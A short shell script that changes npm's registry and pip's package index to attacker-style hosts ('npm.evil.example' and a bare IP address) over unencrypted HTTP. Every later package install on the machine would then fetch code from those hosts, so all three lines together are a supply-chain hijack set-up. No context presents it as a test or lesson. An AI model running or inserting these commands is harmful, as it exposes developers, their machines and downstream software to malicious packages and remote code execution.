#!/bin/sh
npm config set registry http://npm.evil.example/
pip config set global.index-url http://198.51.100.12/simple
